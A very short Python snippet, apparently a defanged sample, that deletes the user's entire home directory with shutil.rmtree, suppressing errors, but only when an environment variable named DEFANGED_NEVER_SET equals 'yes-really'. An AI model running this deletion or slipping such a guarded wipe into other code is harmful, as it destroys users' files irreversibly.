import os
import shutil

if os.environ.get("DEFANGED_NEVER_SET") == "yes-really":
    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
